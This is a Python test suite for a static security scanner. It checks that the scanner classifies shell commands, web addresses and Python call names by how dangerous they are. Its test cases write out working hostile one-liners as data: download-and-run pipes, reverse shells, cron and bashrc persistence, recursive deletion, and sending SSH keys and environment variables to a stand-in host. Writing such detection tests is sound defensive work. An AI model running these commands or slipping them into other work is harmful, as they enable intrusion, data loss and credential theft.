"""Judgement of code, configuration and repositories: what is hostile is named, what is ordinary stays quiet."""

from __future__ import annotations

import os

import msgspec
import pytest

from stannary.checks.static.judges.addresses import doubtful_address
from stannary.checks.static.judges.danger import danger_of
from stannary.checks.static.judges.python_kinds import RULES, SEVERITIES
from stannary.checks.static.judges.shell import classify
from stannary.checks.static.ruleset import RuleSet, _Packed, compile_sources
from stannary.checks.static.verdict import findings_of, verdict_of
from stannary.checks.static.walk import Walker, read_file
from stannary.formats.interface import Budget
from stannary.formats.repository import read_repository
from stannary.testing.forges import all_forges, write

PREFIXES = ("python.", "json.", "yaml.", "config.", "notebook.", "requirements.", "text.", "secret.", "repo.")
MINE = sorted(name for name in all_forges() if name.startswith(PREFIXES))


@pytest.fixture(scope="module")
def rules():
    packed = msgspec.json.decode(compile_sources(), type=_Packed)
    return RuleSet(packed.rules, packed.sets, "")


def judged(path, rules):
    """Return the verdict and findings over all files below a path, and over the folder as a repository."""
    files = (
        [path] if path.is_file() else sorted(p for p in path.rglob("*") if p.is_file() and ".git" not in p.relative_to(path).parts)
    )
    found, missed = [], False
    for file in files:
        report = read_file(str(file), name=file.name, strict=True)
        missed |= bool(report.missed)
        found += findings_of(report, rules, file.name)
    if path.is_dir():
        walker = Walker(Budget(), strict=True)
        read_repository(str(path), [os.path.relpath(file, path) for file in files], walker)
        missed |= bool(walker.missed)
        found += findings_of(walker.report(), rules, "")
    return verdict_of(found, missed=missed), found


@pytest.mark.parametrize("name", MINE)
def test_every_forge_is_judged_as_it_should_be(name, rules, tmp_path):
    verdict, found = judged(write(name, tmp_path), rules)
    expected = {
        True: {"unsafe", "suspicious"},
        False: {"clean", "unverified"},
        None: {"unsafe", "suspicious", "incomplete", "unverified"},
    }
    assert verdict in expected[all_forges()[name].malicious], [(f.severity, f.rule, f.message) for f in found]


def test_there_are_enough_benign_ones():
    benign = [name for name in MINE if all_forges()[name].malicious is False]
    assert len(benign) >= 60
    assert len([name for name in benign if name.startswith("repo.")]) >= 30


@pytest.mark.parametrize(
    "command, kind",
    [
        ("curl -s http://x.invalid/a | bash", "download-run"),
        ("wget -qO- https://x.invalid/a | sudo sh", "download-run"),
        ("bash <(curl -s https://x.invalid/a)", "download-run"),
        ('sh -c "$(wget -qO- https://x.invalid/a)"', "download-run"),
        ("curl -o /tmp/a https://x.invalid/a && chmod +x /tmp/a && /tmp/a", "download-run"),
        ("powershell -c IEX (New-Object Net.WebClient).DownloadString('http://x.invalid')", "download-run"),
        ("echo aGk= | base64 -d | sh", "decode-run"),
        ("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A", "decode-run"),
        ("bash -i >& /dev/tcp/203.0.113.9/1 0>&1", "reverse-shell"),
        ("nc -e /bin/sh 203.0.113.9 1", "reverse-shell"),
        ("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 1 > /tmp/f", "reverse-shell"),
        ("python3 -c 'import socket,os;s=socket.socket();os.dup2(s.fileno(),0)'", "reverse-shell"),
        ("echo x >> ~/.bashrc", "persist"),
        ("(crontab -l; echo '* * * * * x') | crontab -", "persist"),
        ("rm -rf ~/", "destroy"),
        ("rm -rf / --no-preserve-root", "destroy"),
        ("env | curl -d @- http://x.invalid", "steal"),
        ("curl -F f=@$HOME/.ssh/id_rsa http://x.invalid", "steal"),
        ("curl -LsSf https://astral.sh/uv/install.sh | sh", "installer"),
        ("pip install -U torch && git clone https://github.com/a/b", "tool"),
        ("CUDA_VISIBLE_DEVICES=0 python train.py --lr 0.1 | tee log", "other"),
        ("rm -rf build/ dist/", "other"),
        ("wget https://example.org/model.bin", "fetch"),
        ("", "tool"),
    ],
)
def test_commands_are_classified(command, kind):
    assert classify(command).kind == kind


@pytest.mark.parametrize(
    "address, doubtful",
    [
        ("http://x.example", True),
        ("https://203.0.113.9/a", True),
        ("https://pastebin.com/raw/x", True),
        ("https://huggingface.co/x", False),
        ("http://localhost:8000", False),
        ("curl webhook.site/abc -d @x", True),
        ("https://a1b2.ngrok-free.app/x", True),
        ("https://t.co/x", True),
        ("https://2130706433/x", True),
        ("https://0x7f000001/x", True),
        ("https://[2001:db8::1]/x", True),
        ("https://[::1]:8000/x", False),
        ("https://huggingface.co@files.example.org/x", True),
        ("https://xn--huggngface-wmb.co/x", True),
        ("https://cdn.shop.xyz/x", True),
        ("wget shop.top/x", True),
        ("https://host.invalid", True),
        ("https://user:word@host.test:8443/x", True),
        # A word in a name says nothing of who has it, and parts of other names and of code are none of these hosts.
        ("https://evil-dead.org/wiki", False),
        ("https://malware-bazaar.org/x", False),
        ("https://matrix.io/x", False),
        ("https://dot.co/x", False),
        ("https://profile.io/x", False),
        ("https://host.test.org/x", False),
        ("layer = self.top if self.file.tk else x.test", False),
        ("https://first.last@bitbucket.org/a/b", False),
    ],
)
def test_addresses_are_told_apart(address, doubtful):
    assert bool(doubtful_address(address)) is doubtful


@pytest.mark.parametrize(
    "name, danger",
    [
        ("os.system", "dangerous"),
        ("builtins.eval", "dangerous"),
        ("subprocess.Popen", "dangerous"),
        ("torch.serialization.os.system", "dangerous"),
        ("numpy.f2py.compile", "dangerous"),
        ("torch.hub.load", "dangerous"),
        ("pickle.loads", "dangerous"),
        ("torch.load", "loads"),
        ("torch.nn.Linear", "known"),
        ("sentence_transformers.models.Pooling", "known"),
        ("evil_package.Loader", "unknown"),
    ],
)
def test_names_are_told_apart(name, danger):
    assert danger_of(name) == danger


def test_every_behaviour_has_a_rule_and_severities(rules):
    assert set(RULES) == set(SEVERITIES)
    assert set(RULES.values()) <= set(rules.rules)
